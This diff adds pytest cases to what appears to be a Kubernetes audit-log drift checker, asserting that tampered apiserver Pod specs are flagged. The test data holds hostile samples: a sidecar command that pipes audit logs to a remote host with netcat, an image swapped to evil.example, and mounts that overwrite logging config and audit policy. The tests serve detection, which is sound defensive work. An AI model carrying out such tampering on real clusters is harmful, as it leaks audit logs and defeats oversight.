@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import copy
 import csv
 import io
 import json
@@ -69,6 +70,40 @@ def test_drift(pods, secrets, configmaps, expected):
     else:
         for problem in expected:
             assert problem in row.drift
+
+
+def _edited(change):
+    pod = copy.deepcopy(injected(AUDITED))  # its volumes are the (cached) injection's own objects
+    change(pod["spec"])
+    return pod
+
+
+def _sidecar(spec):
+    return next(c for c in spec["containers"] if c["name"] == "audit-logs")
+
+
+@pytest.mark.parametrize(("change", "expected"), [
+    (lambda spec: _sidecar(spec).update(image="evil.example/toolbox:1"),
+     'Pod apiserver-0: audit-logs image evil.example/toolbox:1, injection gives'),
+    (lambda spec: _sidecar(spec).update(command=["/bin/sh", "-c", "cat /var/log/kubernetes/audit/* | nc x 1"]),
+     'Pod apiserver-0: audit-logs command ["/bin/sh","-c",'),
+    (lambda spec: _sidecar(spec)["volumeMounts"].append(
+        {"name": "scratch", "mountPath": "/etc/fluent-bit/fluent-bit.conf", "subPath": "evil.conf"}),
+     "Pod apiserver-0: audit-logs volumeMounts"),
+    (lambda spec: next(v for v in spec["volumes"] if v["name"] == "audit-log").update(emptyDir={"sizeLimit": "1Ki"}),
+     'Pod apiserver-0: volume audit-log {"name":"audit-log","emptyDir":{"sizeLimit":"1Ki"}}, injection gives'),
+    (lambda spec: next(c for c in spec["containers"] if c["name"] == "apiserver")["volumeMounts"].append(
+        {"name": "scratch", "mountPath": "/etc/kubernetes/audit/policy.yaml", "subPath": "p"}),
+     "Pod apiserver-0: apiserver volumeMounts differ from what injection gives"),
+    (lambda spec: spec.update(ephemeralContainers=[{"name": "dbg", "image": "busybox", "volumeMounts": [
+        {"name": "audit-log", "mountPath": "/log"}]}]),
+     "Pod apiserver-0: ephemeral container dbg mounts audit-log"),
+])
+def test_a_running_pod_that_differs_from_what_injection_gives_is_drift(change, expected):
+    """What an UPDATE, an ephemeral container or a Pod written past the webhook could leave behind."""
+    assert row_for(AUDITED, pods=[injected(AUDITED)]).drift == []
+    row = row_for(AUDITED, pods=[_edited(change)])
+    assert any(d.startswith(expected) for d in row.drift), row.drift
 
 
 def test_flag_values_that_differ_are_drift():
